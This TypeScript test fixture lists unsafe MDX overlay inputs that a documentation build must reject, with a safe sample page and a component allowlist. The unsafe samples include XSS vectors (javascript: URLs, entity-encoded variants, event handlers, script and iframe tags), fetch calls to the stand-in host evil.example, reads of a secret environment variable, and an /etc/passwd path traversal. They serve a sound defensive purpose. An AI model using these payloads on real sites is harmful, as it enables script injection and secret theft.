/**
 * The attacker's corpus of issue 16: overlays that must never be stored (write time) nor compiled as
 * written (build time). `at` is the line:col the refusal must name; `construct` a word it must contain.
 * SECRET_ENV is the variable a build-time test sets; no output file may contain its value.
 */
export const SECRET_ENV = "PFS_TEST_SECRET";

export interface UnsafeCase {
  name: string;
  content: string;
  at: string;
  construct: RegExp;
}

export const UNSAFE_CORPUS: UnsafeCase[] = [
  { name: "expression reading the build's environment", content: `# Hi\n\nYour key: {process.env.${SECRET_ENV}}\n`, at: "3:11", construct: /expression/ },
  { name: "flow expression", content: `# Hi\n\n{globalThis.fetch("https://evil.example/x")}\n`, at: "3:1", construct: /expression/ },
  { name: "ESM import", content: `import fs from "node:fs"\n\n# Hi\n`, at: "1:1", construct: /ESM/ },
  { name: "ESM export", content: `# Hi\n\nexport const secret = process.env.${SECRET_ENV}\n`, at: "3:1", construct: /ESM/ },
  { name: "event handler on an allowlisted component", content: `# Hi\n\n<Quiz title="q" onMouseOver="fetch('https://evil.example/h')" />\n`, at: "3:1", construct: /event handler/ },
  { name: "event handler on an HTML element", content: `# Hi\n\n<span onclick="alert(1)">x</span>\n`, at: "3:1", construct: /event handler/ },
  { name: "javascript: link", content: `# Hi\n\n[click](javascript:alert(1))\n`, at: "3:1", construct: /javascript: URL/ },
  { name: "data: image", content: `# Hi\n\n![x](data:text/html;base64,PHNjcmlwdD4=)\n`, at: "3:1", construct: /data: URL/ },
  { name: "javascript: in a definition", content: `# Hi\n\n[a]: javascript:alert(1)\n\n[go][a]\n`, at: "3:1", construct: /javascript: URL/ },
  { name: "javascript: in a component prop", content: `# Hi\n\n<Quiz href="javascript:alert(1)" />\n`, at: "3:1", construct: /javascript: URL/ },
  { name: "raw script", content: `# Hi\n\n<script>fetch("https://evil.example/s")</script>\n`, at: "3:1", construct: /<script>/ },
  { name: "iframe", content: `# Hi\n\n<iframe src="https://evil.example/f"></iframe>\n`, at: "3:1", construct: /<iframe>/ },
  { name: "nested JSX in a prop", content: `# Hi\n\n<Quiz title={<img src="x" onError={() => alert(1)} />} />\n`, at: "3:1", construct: /expression prop/ },
  { name: "component off the allowlist", content: `# Hi\n\nText <Tabs>x</Tabs>\n`, at: "3:6", construct: /not on the overlay allowlist/ },
  { name: "expression prop", content: `# Hi\n\n<Quiz title={process.env.${SECRET_ENV}} />\n`, at: "3:1", construct: /expression prop/ },
  { name: "spread props", content: `# Hi\n\n<Quiz {...globalThis} />\n`, at: "3:1", construct: /spread/ },
  { name: "entity-encoded javascript: URL", content: `# Hi\n\n[x](&#106;avascript&#58;alert(1))\n`, at: "3:1", construct: /javascript: URL/ },
  { name: "entity-encoded javascript: in a prop", content: `# Hi\n\n<Quiz href="&#x6A;avascript:alert(1)" />\n`, at: "3:1", construct: /javascript: URL/ },
  { name: "entity-encoded script tag", content: `# Hi\n\n&lt;script&gt;alert(1)&lt;/script&gt;\n`, at: "3:1", construct: /character reference/ },
  { name: "entity-encoded expression", content: `# Hi\n\n&#123;process.env.${SECRET_ENV}&#125;\n`, at: "3:1", construct: /character reference/ },
  { name: "not valid MDX", content: `# Hi\n\na <b\n`, at: "3:5", construct: /does not parse as MDX/ },
  { name: "image that climbs out of the book", content: `# Hi\n\n![x](../../../../../../etc/passwd)\n`, at: "3:1", construct: /leaves the book/ },
];

/** Ordinary markdown an overlay must be able to hold (allowlist: Quiz, Admonition). */
export const SAFE_PAGE = [
  "---",
  "title: Your version",
  "sidebar_position: 2",
  "---",
  "# Loops, for you",
  "",
  "| a | b |",
  "|---|---|",
  "| 1 | 2 |",
  "",
  "```js",
  "const o = { a: 1 }; // {braces} and <div>tags</div> are code here",
  "```",
  "",
  "Inline `{x}` and `<div>` stay code. Math: $E = mc^2$. A &lt; B &amp; C.",
  "",
  "![diagram](../../static/img/loop.png) [next](./02-next.md) [docs](https://docs.python.org/3/)",
  "",
  ":::note",
  "Remember the colon.",
  ":::",
  "",
  '<Quiz title="Check yourself" answer="b" />',
  "",
  '<Admonition type="tip">Try it <sub>2</sub><br/></Admonition>',
  "",
].join("\n");

export const OVERLAY_COMPONENTS = ["Quiz", "Admonition"];
